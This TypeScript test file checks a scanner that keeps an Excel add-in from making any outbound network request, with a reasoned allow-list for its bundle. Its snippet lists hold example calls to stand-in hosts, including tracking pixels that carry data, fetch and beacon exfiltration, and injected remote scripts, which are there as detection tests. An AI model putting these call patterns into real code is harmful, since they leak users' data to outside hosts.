/*
 * "No network request other than Office's own script" (docs/security.md), checked where it can
 * be broken: every way a page can reach the network, navigate or open a window (outbound.ts),
 * over src/ and over the built bundle in dist/ (built by `npm test`'s pretest). What the bundle
 * legitimately contains is allowed entry by entry below, each with its reason; anything else
 * fails, and so does an entry that no longer matches anything (the list cannot go stale).
 *
 * The scanner itself is tested first on small snippets, one per forbidden call: a rule that
 * stopped matching would otherwise pass silently.
 */
import * as fs from "fs";
import * as path from "path";
import { scan, scanSource, type Finding } from "./outbound";

const ROOT = path.resolve(__dirname, "../..");
const DIST = path.join(ROOT, "dist");

interface Allowed {
  id: string;
  why: string;
  rule: string;
  /** The bundle file (default: any). */
  file?: RegExp;
  /** The matched text must match this. */
  match?: RegExp;
  /** The code around the match (300 characters either side) must match this. */
  context?: RegExp;
}

/** SpreadsheetML's namespace and relationship-type names (ECMA-376 Part 1 and 2), which an .xlsx must carry word for word. */
const OOXML_NAMESPACE =
  /^http:\/\/schemas\.openxmlformats\.org\/(spreadsheetml\/2006\/main|officeDocument\/2006\/relationships(\/[a-zA-Z]+)?|package\/2006\/(relationships|content-types))$/;

/** The one source file that writes them: the statement file's SpreadsheetML (docs/cycle.md, "Statement files"). */
const OOXML_WRITER = "src/workbook/statementFile/spreadsheetML.ts";

/** What the production bundle may contain. Minified names are never part of a pattern. */
const BUNDLE_ALLOWED: Allowed[] = [
  {
    id: "webpack chunk loader",
    why:
      "webpack's runtime loads the pane's own lazy chunks (wizard, insights, zh, workbook, sample) with a " +
      "<script src> relative to taskpane.html (output.publicPath is \"\"); the page's CSP allows scripts only " +
      "from 'self' and Office's CDN",
    rule: "createElement|urlProperty",
    context: /setAttribute\("data-webpack"/,
  },
  {
    id: "React DOM resource hoisting",
    why:
      "React DOM 19 creates <link>/<script> elements only for <link>/<script> elements the app renders or for " +
      "ReactDOM.preload/preinit/preconnect calls; the source scan forbids both (jsxElement, reactResource)",
    rule: "createElement",
    context: /precedence|hoistableScripts|rel:"(preload|modulepreload)"|\[as="style"\]|_p=new Promise|link\[rel="/,
  },
  {
    id: "React DOM <img> commit",
    why: "React DOM re-applies the src of an <img> the app renders; the source scan forbids <img> and src props",
    rule: "urlProperty",
    context: /case"img":\w+\.src\?\w+\.src=\w+\.src:\w+\.srcSet&&\(\w+\.srcset=\w+\.srcSet\)/,
  },
  {
    id: "Fluent disabled anchor",
    why: "Fluent UI's button hook removes the href of a disabled <a> (sets it to undefined): nothing is loaded",
    rule: "urlProperty",
    match: /^\.href=$/,
    context: /"a"===\w+&&\w+&&\(\w+\.href=void 0\)/,
  },
  {
    id: "Fluent Link's disabled anchor",
    why:
      "Fluent UI's Link hook (the program card's and review's links) keeps an <a>'s own href, or removes it when " +
      "disabled; it never sets a new URL, and the source scan forbids href props",
    rule: "urlProperty",
    match: /^\.href=$/,
    context: /"a"===\w+\.root\.as&&\(\w+\.root\.href=\w+\?void 0:\w+\.root\.href/,
  },
  {
    id: "React DOM xlink:href",
    why: "React DOM applies an SVG's xlinkHref prop; the source scan forbids URL props on DOM elements",
    rule: "urlAttribute|absoluteUrl",
    context: /setAttributeNS\("http:\/\/www\.w3\.org\/1999\/xlink","xlink:href"/,
  },
  {
    id: "React scheduler MessageChannel",
    why: "React's scheduler posts to its own MessageChannel port to yield to the browser; never to another window",
    rule: "postMessage",
    context: /new MessageChannel,\w+=\w+\.port2;\w+\.port1\.onmessage=/,
  },
  {
    id: "React form warning",
    why: "words in React DOM's error message about form.submit(), not a call",
    rule: "submit",
    context: /A React form was unexpectedly submitted\. If you called form\.submit\(\) manually, consider using form\.requestSubmit\(\)/,
  },
  {
    id: "stylis @import token",
    why: "the CSS serializer's name for @import rules (a constant it compares with); the pane's CSS is written in src/ and has no url() or @import (cssUrl rule)",
    rule: "cssUrl",
    match: /^@import$/,
    context: /="@import",\w+="@namespace"/,
  },
  {
    id: "XML namespace names",
    why: "SVG, MathML, XLink and XML namespace names: identifiers, never fetched",
    rule: "absoluteUrl",
    match: /^http:\/\/www\.w3\.org\/(2000\/svg|1999\/xlink|1998\/Math\/MathML|XML\/1998\/namespace)$/,
  },
  {
    id: "OOXML namespace names",
    why:
      "the partner statement file's SpreadsheetML parts name their XML namespaces and relationship types (ECMA-376): " +
      "identifiers written into the .xlsx, never fetched",
    rule: "absoluteUrl",
    file: /^statement-file\.[0-9a-f]+\.js$/,
    match: OOXML_NAMESPACE,
  },
  {
    id: "React error decoder link",
    why: "text of React's minified error messages (a link for the developer to read), never fetched",
    rule: "absoluteUrl",
    match: /^https:\/\/react\.dev\/errors\/$/,
  },
  {
    id: "sample =HYPERLINK partner name",
    why: "the SolarWave sample's hostile partner name, written as literal text; .invalid never resolves",
    rule: "absoluteUrl",
    file: /^sample\.[0-9a-f]+\.js$/,
    match: /^http:\/\/example\.invalid$/,
  },
];

function allowedBy(file: string, f: Finding): Allowed | undefined {
  return BUNDLE_ALLOWED.find(
    (a) =>
      new RegExp(`^(${a.rule})$`).test(f.rule) &&
      (!a.file || a.file.test(file)) &&
      (!a.match || a.match.test(f.match)) &&
      (!a.context || a.context.test(f.context)),
  );
}

const describeFinding = (file: string, f: Finding) =>
  `${file}: ${f.what}: ${JSON.stringify(f.match)} in …${f.context.slice(200, 420).replace(/\s+/g, " ")}…`;

// ------------------------------------------------------------------ the scanner can fail

/** One snippet per forbidden call, each with the rule that must flag it. */
const FORBIDDEN: [rule: string, code: string][] = [
  ["fetch", 'fetch("https://example.com/track")'],
  ["fetch", "window.fetch(url, { method: 'POST' })"],
  ["fetch", "const f = globalThis.fetch; f(u)"],
  ["xhr", 'const x = new XMLHttpRequest(); x.open("GET", u)'],
  ["beacon", 'navigator.sendBeacon("x")'],
  ["beacon", "const b = navigator.sendBeacon.bind(navigator)"],
  ["websocket", 'new WebSocket("wss://example.com")'],
  ["eventsource", 'new EventSource("/events")'],
  ["webrtc", "new RTCPeerConnection({ iceServers })"],
  ["importScripts", 'importScripts("https://example.com/w.js")'],
  ["worker", 'new Worker("worker.js")'],
  ["worker", "new SharedWorker(new URL('https://example.com/w.js'))"],
  ["serviceWorker", 'navigator.serviceWorker.register("/sw.js")'],
  ["open", 'window.open("https://example.com")'],
  ["open", "w.open(url, '_blank')"],
  ["officeWindow", 'Office.context.ui.openBrowserWindow("https://example.com")'],
  ["officeWindow", "Office.context.ui.displayDialogAsync(url)"],
  ["image", "new Image().src = u"],
  ["image", "const i = new Image(); i.src = u"],
  ["image", "new Audio(u).play()"],
  ["urlProperty", "img.src = 'https://example.com/p.gif?d=' + data"],
  ["urlProperty", "el.srcset = u"],
  ["urlProperty", "a.href = u; a.click()"],
  ["urlAttribute", 'el.setAttribute("src", u)'],
  ["urlAttribute", "el.setAttribute('href', u)"],
  ["urlAttribute", 'form.setAttribute("action", u)'],
  ["createElement", 'document.createElement("script")'],
  ["createElement", "document.createElement('img')"],
  ["createElement", 'doc.createElement("link")'],
  ["createElement", 'document.createElement("iframe")'],
  ["createElement", 'document.createElementNS("http://www.w3.org/2000/svg", "image")'],
  ["postMessage", 'window.parent.postMessage(data, "*")'],
  ["postMessage", "top.postMessage(data, 'https://example.com')"],
  ["navigate", 'window.location = "https://example.com"'],
  ["navigate", "location.href = u"],
  ["navigate", "window.location.assign(u)"],
  ["navigate", "location.replace(u)"],
  ["submit", "form.submit()"],
  ["cssUrl", "const css = { backgroundImage: 'url(https://example.com/p.png)' }"],
  ["cssUrl", "const css = '@import \"https://fonts.example.com/x.css\";'"],
  ["cssUrl", "const css = { src: 'url(//cdn.example.com/f.woff2)' }"],
  ["absoluteUrl", 'const endpoint = "https://telemetry.example.com/v1"'],
  ["absoluteUrl", "const u = `http://${host}/x`"],
];

/** Only in source (JSX, dynamic import, React DOM's resource calls). */
const FORBIDDEN_IN_SOURCE: [rule: string, code: string][] = [
  ["dynamicImport", 'import("https://example.com/m.js")'],
  ["dynamicImport", "import(url)"],
  ["jsxElement", 'const a = <img alt="" src="https://example.com/p.png" />;'],
  ["jsxElement", "const a = <script>{code}</script>;"],
  ["jsxElement", 'const a = <a href={u}>Help</a>;'],
  ["jsxElement", 'const a = <iframe title="x" />;'],
  ["jsxElement", "const a = <form>{x}</form>;"],
  ["jsxUrlProp", "const a = <div><img src={u} alt=\"\" /></div>;"],
  ["jsxUrlProp", 'const a = <link rel="stylesheet" href="https://fonts.example.com" />;'],
  ["reactResource", 'ReactDOM.preload("https://example.com/f.woff2", { as: "font" })'],
  ["reactResource", 'preconnect("https://example.com")'],
];

/** Look alike, reach nothing: must not be flagged (or the rules would be ignored as noise). */
const CLEAN_SOURCE: string[] = [
  'const m = await import("./components/Wizard/Wizard");',
  'const m = await import(/* webpackChunkName: "zh" */ "../i18n/zh");',
  'type T = typeof import("../../workbook/programs").listPrograms;',
  "const prefetchCount = 2; const fetched = refetchPolicy;",
  "// fetch(\"https://example.com\") in a comment\nconst a = 1;",
  "/* navigator.sendBeacon('x'); see https://learn.microsoft.com/office */ const b = 2;",
  "const set = new WeakSet<object>();",
  "const a = <Button appearance=\"primary\" onClick={go}>Open</Button>;",
  "const a = <Link onClick={go}>Details</Link>;",
  "window.history.replaceState(null, \"\", `#${view}`);",
  "const h = window.location.hash; if (location.hash === '#new') go();",
  "this.data = tableName(key, \"Data\");",
  'const location = "A1"; let location2 = 1;',
];

describe("the scanner", () => {
  test.each(FORBIDDEN)("flags %s in: %s", (rule, code) => {
    expect(scan(code, "bundle").map((f) => f.rule)).toContain(rule);
    expect(scanSource(code, "snippet.tsx").map((f) => f.rule)).toContain(rule);
  });

  test.each(FORBIDDEN_IN_SOURCE)("flags %s in source: %s", (rule, code) => {
    expect(scanSource(code, "snippet.tsx").map((f) => f.rule)).toContain(rule);
  });

  test.each(CLEAN_SOURCE)("does not flag: %s", (code) => {
    expect(scanSource(code, "snippet.tsx").map((f) => `${f.rule}: ${f.match}`)).toEqual([]);
  });

  test("a forbidden call in the bundle is not excused by the allow-list, even next to an allowed one", () => {
    const chunkLoader =
      '(l=document.createElement("script")).charset="utf-8",l.setAttribute("data-webpack",n+o),l.src=e';
    const snippets = [
      'navigator.sendBeacon("x")',
      'var i=new Image;i.src="https://example.com/p.gif"',
      'var s=document.createElement("script");s.src="https://example.com/x.js";document.head.appendChild(s)',
      'fetch("https://example.com/"+d)',
      'window.open("https://example.com")',
      'parent.postMessage(d,"*")',
      'var e="https://telemetry.example.com/v1"',
    ];
    for (const snippet of snippets) {
      // Far enough from the chunk loader that its context does not reach.
      const code = chunkLoader + ";".repeat(400) + snippet;
      const unexplained = scan(code, "bundle").filter((f) => !allowedBy("taskpane.js", f));
      expect(unexplained.length).toBeGreaterThan(0);
    }
    expect(scan(chunkLoader, "bundle").filter((f) => !allowedBy("taskpane.js", f))).toEqual([]);
  });
});

// ------------------------------------------------------------------ the add-in's own code

function sourceFiles(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((d) => {
    const full = path.join(dir, d.name);
    return d.isDirectory() ? sourceFiles(full) : /\.(ts|tsx)$/.test(d.name) ? [full] : [];
  });
}

test("src/ uses no outbound API, no URL, no loading element: nothing is allowed there but OOXML namespace names in the .xlsx writer", () => {
  const files = sourceFiles(path.join(ROOT, "src"));
  expect(files.length).toBeGreaterThan(50);
  const namespaceName = (file: string, f: Finding) =>
    file === OOXML_WRITER && f.rule === "absoluteUrl" && OOXML_NAMESPACE.test(f.match);
  const findings = files.flatMap((file) => {
    const relative = path.relative(ROOT, file).split(path.sep).join("/");
    return scanSource(fs.readFileSync(file, "utf8"), file)
      .filter((f) => !namespaceName(relative, f))
      .map((f) => describeFinding(relative, f));
  });
  expect(findings).toEqual([]);
  // The exception is that narrow: another URL in the writer, or a namespace name elsewhere, is found.
  const other = scanSource('const u = "http://schemas.openxmlformats.org/x/y"', OOXML_WRITER);
  expect(other.filter((f) => !namespaceName(OOXML_WRITER, f))).toHaveLength(1);
  const elsewhere = scanSource('const u = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"', "src/x.ts");
  expect(elsewhere.filter((f) => !namespaceName("src/x.ts", f))).toHaveLength(1);
});

test("the task pane page loads nothing but its own scripts and Office's", () => {
  const page = fs.readFileSync(path.join(ROOT, "src/taskpane/taskpane.html"), "utf8");
  const urls = [...page.matchAll(/\b(?:src|href|action|data)\s*=\s*"([^"]*)"/gi)].map((m) => m[1]);
  expect(urls).toEqual(["https://appsforoffice.microsoft.com/lib/1/hosted/office.js"]);
});

// ------------------------------------------------------------------ the built bundle

describe("production bundle", () => {
  const files = fs.existsSync(DIST) ? fs.readdirSync(DIST).filter((f) => f.endsWith(".js")) : [];
  const findings = files.flatMap((file) =>
    scan(fs.readFileSync(path.join(DIST, file), "utf8"), "bundle").map((f) => ({ file, f })),
  );

  test("was built (npm test builds it first)", () => {
    expect(files).toEqual(expect.arrayContaining(["taskpane.js", "functions.js"]));
  });

  test("uses no outbound API other than the allowed entries", () => {
    const unexplained = findings.filter(({ file, f }) => !allowedBy(file, f)).map(({ file, f }) => describeFinding(file, f));
    expect(unexplained).toEqual([]);
  });

  test("every allow-list entry is still needed", () => {
    const used = new Set(findings.map(({ file, f }) => allowedBy(file, f)?.id));
    expect(BUNDLE_ALLOWED.map((a) => a.id).filter((id) => !used.has(id))).toEqual([]);
  });

  test("functions.js (loaded by Excel's custom functions runtime) needs no allow-list entry at all", () => {
    expect(findings.filter(({ file }) => file === "functions.js").map(({ f }) => describeFinding("functions.js", f))).toEqual([]);
  });
});
